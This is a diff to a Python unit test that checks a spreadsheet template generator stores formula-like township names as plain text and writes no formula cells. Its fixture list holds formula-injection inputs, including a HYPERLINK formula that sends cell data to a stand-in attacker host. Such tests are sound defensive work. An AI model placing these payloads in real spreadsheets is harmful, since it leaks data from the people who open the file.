@@ -44,10 +44,11 @@ def test_a_blank_template_writes_a_township_named_like_a_formula_as_text():
     from openpyxl import load_workbook
 
     from config import load_config
+    from imports.kinds import FACILITY_FIELDS
     from reports.import_template import template_xlsx
 
     hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"点击")', "+1+2", "@SUM(1)", "-3+4", "静海镇"]
-    wb = load_workbook(io.BytesIO(template_xlsx("facilities", load_config(), townships=hostile)))
+    wb = load_workbook(io.BytesIO(template_xlsx("facilities", FACILITY_FIELDS, load_config(), townships=hostile)))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     options = [wb["选项"][f"B{i}"].value for i in range(1, 6)]
